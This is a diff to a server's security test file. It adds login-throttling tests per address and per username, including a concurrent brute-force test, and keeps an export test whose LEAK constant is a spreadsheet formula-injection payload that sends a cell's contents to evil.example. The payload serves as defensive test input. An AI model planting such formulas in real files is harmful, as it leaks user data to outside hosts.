@@ -2,12 +2,19 @@
 login throttling per client address, bounded kept payloads, JSON bombs, photo hashes as keys, and the
 smaller ones (directory oracle, control characters, truncated JPEGs, absurd dates, session lifetime)."""
 import io
+import threading
+from concurrent.futures import ThreadPoolExecutor
 
+import pytest
 from openpyxl import load_workbook
+from sqlalchemy import select
 
+from server import auth as auth_module
+from server.auth import create_user
 from server.extensions import db
+from server.models import AuditEvent
 from server.reconcile import run_reconciliation
-from tests.conftest import add_member
+from tests.conftest import PASSWORD, add_member
 from tests.sync_support import add_registry
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&E2,"Bấm để xem")'
@@ -36,3 +43,79 @@ def test_the_review_export_stores_text_that_looks_like_a_formula_as_text(app, tr
         kept = text.replace("\r", "\n")  # XML reads a bare CR as a line end; the cell stays text either way
         assert name.value == kept and hometown.value == kept  # intact, the leading tab included
         assert name.quotePrefix and hometown.quotePrefix  # stays text when someone edits the cell
+
+
+# ---- 2 and 3. login throttling per username at an address, and per address -----------------------------
+
+def _login(client, username, password, address):
+    return client.post("/api/v1/auth/login", json={"username": username, "password": password},
+                       environ_base={"REMOTE_ADDR": address})
+
+
+@pytest.fixture
+def hashes(monkeypatch):
+    """Counts the password checks that reach scrypt."""
+    calls = []
+    real = auth_module.check_password_hash
+
+    def counted(*args):
+        calls.append(1)
+        return real(*args)
+
+    monkeypatch.setattr(auth_module, "check_password_hash", counted)
+    return calls
+
+
+def test_a_stranger_locks_only_their_own_address_out(client, tree, hashes):
+    create_user("admin.p", PASSWORD, "unit_admin", "P")
+    db.session.commit()
+    for _ in range(10):
+        assert _login(client, "admin.p", "guess-guess", "203.0.113.9").status_code == 401
+    refused = _login(client, "admin.p", PASSWORD, "203.0.113.9")  # the right password too
+    assert refused.status_code == 429 and refused.json["error"]["code"] == "too_many_attempts"
+    assert 1 <= int(refused.headers["Retry-After"]) <= 15 * 60
+    assert len(hashes) == 10  # the refused attempt never reached the password hash
+    assert _login(client, "admin.p", PASSWORD, "198.51.100.7").status_code == 200  # the admin's own address
+    addresses = db.session.scalars(select(AuditEvent.detail).where(AuditEvent.action == "auth.login")).all()
+    assert [d["address"] for d in addresses] == ["203.0.113.9"] * 11 + ["198.51.100.7"]
+
+
+def test_one_address_trying_many_usernames_is_slowed_too(app, client, tree, hashes):
+    create_user("ana", PASSWORD, "officer", "C1")
+    db.session.commit()
+    limit = app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"]
+    for n in range(limit):
+        assert _login(client, f"guess{n}", "guess-guess", "203.0.113.9").status_code == 401
+    refused = _login(client, "ana", PASSWORD, "203.0.113.9")
+    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1
+    assert len(hashes) == limit
+    assert _login(client, "ana", PASSWORD, "198.51.100.7").status_code == 200
+
+
+def test_a_good_sign_in_gives_its_slot_back_to_the_address(app, client, tree):
+    create_user("ana", PASSWORD, "officer", "C1")
+    db.session.commit()
+    app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"] = 3
+    for _ in range(5):  # an office behind one address signing in all day is never slowed by its successes
+        assert _login(client, "ana", PASSWORD, "192.0.2.1").status_code == 200
+
+
+def test_concurrent_wrong_passwords_reach_the_hash_no_more_than_the_limit(app, tree, hashes):
+    create_user("ana", PASSWORD, "officer", "C1")
+    db.session.commit()
+    db.session.remove()
+    barrier = threading.Barrier(40)
+
+    def attempt(_):
+        with app.app_context():
+            client = app.test_client()
+            barrier.wait()
+            try:
+                return _login(client, "ana", "guess-guess", "203.0.113.9").status_code
+            finally:
+                db.session.remove()
+
+    with ThreadPoolExecutor(40) as pool:
+        statuses = sorted(pool.map(attempt, range(40)))
+    assert statuses == [401] * 10 + [429] * 30
+    assert len(hashes) == 10
